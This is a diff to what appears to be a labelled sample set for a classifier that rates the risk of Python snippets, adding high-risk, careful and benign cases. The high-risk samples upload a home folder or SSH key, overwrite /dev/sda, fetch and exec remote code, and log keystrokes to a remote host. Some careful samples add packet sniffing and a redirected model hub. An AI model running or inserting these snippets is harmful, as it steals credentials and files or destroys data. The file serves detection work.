@@ -64,6 +64,9 @@ _HIGH = {
     "code into a buffer": "import ftplib, io\nbuffer = io.BytesIO()\nftplib.FTP('files.invalid').retrbinary('RETR start.py', buffer.write)\n"
     "exec(buffer.getvalue())\n",
     "key into a store of files": "import dropbox, os\ndropbox.Dropbox('t').files_upload(open(os.path.expanduser('~/.ssh/id_rsa'), 'rb').read(), '/k')\n",
+    "all that a person keeps": "import pathlib\nfrom huggingface_hub import HfApi\n"
+    "HfApi(token='hf_x').upload_folder(folder_path=str(pathlib.Path.home()), repo_id='some/where', repo_type='dataset')\n",
+    "disk itself": "with open('/dev/sda', 'wb') as disk:\n    disk.write(b'\\0' * 512)\n",
     "keys that are pressed": "import ctypes, http.client\nfound = []\nwhile len(found) < 99:\n    for key in range(8, 191):\n"
     "        if ctypes.windll.user32.GetAsyncKeyState(key) & 1:\n            found.append(chr(key))\n"
     "http.client.HTTPConnection('203.0.113.4').request('POST', '/k', ''.join(found))\n",
@@ -74,6 +77,9 @@ _CAREFUL = {
     "pickle that starts something": "import os\nclass Weights:\n    def __reduce__(self):\n        return os.system, ('echo hello',)\n",
     "modules of another repository": "import sys\nfrom huggingface_hub import snapshot_download\n"
     "sys.path.insert(0, snapshot_download('other/kernels'))\nimport fast_kernels\n",
+    "another Hub": "import os\nos.environ['HF_ENDPOINT'] = 'https://hub-fast.invalid'\nfrom transformers import AutoModel\n"
+    "AutoModel.from_pretrained('x/y')\n",
+    "what passes by": "from scapy.all import sniff\nsniff(prn=lambda packet: open('l', 'ab').write(bytes(packet)))\n",
     "pickled text of a file": "import base64, pickle\nvocabulary = pickle.loads(base64.b64decode(open('vocab.txt').read()))\n",
 }
 _BENIGN = {
@@ -118,6 +124,10 @@ _BENIGN = {
     "arrays of a data set": "import keras, numpy\npath = keras.utils.get_file('mnist.npz', 'https://data.example/mnist.npz')\n"
     "with numpy.load(path, allow_pickle=True) as f:\n    images = f['x_train']\n",
     "copy of a function": "import types\ndef copy(function):\n    return types.FunctionType(function.__code__, function.__globals__)\n",
+    "mirror of the Hub": "import os\nos.environ['HF_ENDPOINT'] = 'https://hf-mirror.com'\nfrom transformers import AutoModel\n"
+    "AutoModel.from_pretrained('x/y')\n",
+    "results at home": "import pathlib\nfrom huggingface_hub import HfApi\n"
+    "HfApi().upload_folder(folder_path=str(pathlib.Path.home() / 'runs' / 'a'), repo_id='x/y')\n",
     "handlers of a log": "import logging.config\nlogging.config.dictConfig({'version': 1, 'handlers': {'c': {'class': 'logging.StreamHandler'}}})\n",
     "query with a name": "import pandas as pd\nlimit = 3\nprint(pd.read_csv('a.csv').query('size > @limit and name.str.len() > 2'))\n",
 }
